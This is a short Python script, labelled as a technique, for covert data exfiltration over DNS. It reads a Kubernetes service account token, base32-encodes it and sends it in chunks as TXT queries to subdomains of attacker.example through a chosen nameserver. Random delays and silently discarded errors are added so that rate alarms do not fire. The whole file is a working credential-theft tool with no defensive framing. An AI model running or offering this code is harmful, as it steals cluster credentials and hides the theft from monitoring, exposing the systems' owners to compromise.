# technique: slow, jittered exfil over DNS TXT queries with dnspython, encoding data in base32 labels to evade rate alarms
import base64, random, time
import dns.resolver
r = dns.resolver.Resolver(); r.nameservers = ["198.51.100.53"]
payload = base64.b32encode(open("/var/run/secrets/kubernetes.io/serviceaccount/token", "rb").read()).decode().rstrip("=").lower()
for n, i in enumerate(range(0, len(payload), 50)):
    try:
        r.resolve(f"{payload[i:i+50]}.{n}.t.attacker.example", "TXT")
    except Exception:
        pass
    time.sleep(random.uniform(2, 9))
